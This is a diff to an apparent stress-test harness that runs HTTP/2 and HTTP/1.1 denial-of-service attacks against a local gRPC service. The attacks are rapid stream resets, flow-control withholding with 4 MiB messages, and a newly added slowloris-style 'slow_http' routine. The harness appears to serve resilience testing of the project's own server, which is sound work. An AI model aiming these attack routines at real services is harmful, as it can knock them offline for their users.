@@ -15,8 +15,8 @@ from collections.abc import Callable
 LOOPBACK = "127.0.0.1"
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
-FIRST_WINDOW = 65_535
-END_HEADERS = 4
+FIRST_WINDOW, LARGEST_WINDOW = 65_535, (1 << 31) - 1
+END_STREAM, END_HEADERS = 1, 4
 MAX_FRAME = 16_384
 UNARY, BULK, WATCH = "/heapsync.v1.HeapSyncService/TrackEvent", "/heapsync.v1.HeapSyncService/BulkTrackEvents", "/grpc.health.v1.Health/Watch"
 
@@ -53,6 +53,7 @@ class Attacker:
         self.received = bytearray()
         self.first_window = FIRST_WINDOW
         self.windows = {0: FIRST_WINDOW}
+        self.ended: set[int] = set()
         self.send(PREFACE + (settings() if window is None else settings(window=window)))
 
     def send(self, data: bytes) -> None:
@@ -64,7 +65,7 @@ class Attacker:
             self.close()
 
     def drain(self) -> None:
-        """Takes in what has arrived, of which only the windows matter; notices an end."""
+        """Takes in what has arrived, of which only windows and the ends of calls matter; notices an end of the connection."""
         if not self.open:
             return
         self.socket.setblocking(False)
@@ -84,6 +85,8 @@ class Attacker:
             del self.received[:9 + length]
             if kind == WINDOW_UPDATE:
                 self.windows[stream] = self.windows.get(stream, self.first_window) + int.from_bytes(payload, "big")
+            elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
+                self.ended.add(stream)
             elif kind == SETTINGS and not flags:
                 for start in range(0, length, 6):
                     name, value = struct.unpack(">HI", payload[start:start + 6])
@@ -105,9 +108,9 @@ class Attacker:
         self.open = False
         self.socket.close()
 
-    def streams(self, path: str, count: int, after: Callable[[int], bytes] = lambda stream: b"") -> None:
-        """Opens `count` calls, each followed by what `after` gives."""
-        head = request(path)
+    def streams(self, path: str, count: int, after: Callable[[int], bytes] = lambda stream: b"", more: bytes = b"") -> None:
+        """Opens `count` calls with `more` headers, each followed by what `after` gives."""
+        head = request(path) + more
         frames = []
         for _ in range(count):
             self.stream += 2
@@ -171,8 +174,9 @@ def unread(port: int, seconds: float) -> dict[str, int]:
     return hold(port, seconds, 200, lambda attacker: attacker.streams(BULK, 1_000), window=0)
 
 
-def withheld(port: int, seconds: float, connections: int = 40, calls: int = 100, path: str = UNARY) -> dict[str, int]:
-    """Messages of 4 MiB less one byte, on each call of each connection; flow control is obeyed."""
+def withheld(port: int, seconds: float, connections: int = 40, calls: int = 100, path: str = UNARY, more: bytes = b"",
+             first: Callable[[Attacker], None] = lambda attacker: None) -> dict[str, int]:
+    """Messages of 4 MiB less one byte, on each call of each connection, which begins with `first`; flow control is obeyed."""
     deadline = time.monotonic() + seconds
     size = 4 << 20
     attackers: list[Attacker] = []
@@ -182,9 +186,11 @@ def withheld(port: int, seconds: float, connections: int = 40, calls: int = 100,
         attackers = [attacker for attacker in attackers if attacker.open]
         while len(attackers) < connections:
             attacker = Attacker(port)
-            attacker.streams(path, calls, lambda stream: frame(DATA, 0, stream, struct.pack(">BI", 0, size)))
-            attacker.windows[0] -= 5 * calls
-            left[attacker] = {stream: size - 1 - MAX_FRAME for stream in range(1, 2 * calls, 2)}
+            first(attacker)
+            begin = attacker.stream + 2
+            attacker.streams(path, calls, lambda stream: frame(DATA, 0, stream, struct.pack(">BI", 0, size)), more)
+            attacker.windows[0] -= 5 * calls + 100
+            left[attacker] = {stream: size - 1 - MAX_FRAME for stream in range(begin, begin + 2 * calls, 2)}
             attackers.append(attacker)
             opened += 1
         progress = 0
@@ -215,7 +221,34 @@ def pings(port: int, seconds: float) -> dict[str, int]:
     return {"connections": connections}
 
 
+def slow_http(port: int, seconds: float) -> dict[str, int]:
+    """The HTTP port: heads that come slowly, bodies that drip, answers that are not read, and silence; each opened again when ended."""
+    deadline, opened = time.monotonic() + seconds, 0
+    begins = [b"GET /metrics HTTP/1.1\r\nHost: a\r\n", b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n",
+              b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n", b""]
+    clients: list[socket.socket] = []
+    while time.monotonic() < deadline:
+        while len(clients) < 160:
+            client = socket.create_connection((LOOPBACK, port), timeout=30)
+            client.sendall(begins[opened % len(begins)])
+            clients.append(client)
+            opened += 1
+        going = []
+        for number, client in enumerate(clients):
+            try:
+                client.sendall(b"x" if number % 4 < 2 else b"")
+                going.append(client)
+            except OSError:
+                client.close()
+        clients = going
+        time.sleep(0.2)
+    for client in clients:
+        client.close()
+    return {"connections": opened}
+
+
 ATTACKS: dict[str, Attack] = {
+    "slow_http": slow_http,
     "rapid_reset": rapid_reset,
     "rapid_reset_unary": lambda port, seconds: rapid_reset(port, seconds, UNARY),
     "rapid_reset_health": lambda port, seconds: rapid_reset(port, seconds, WATCH),
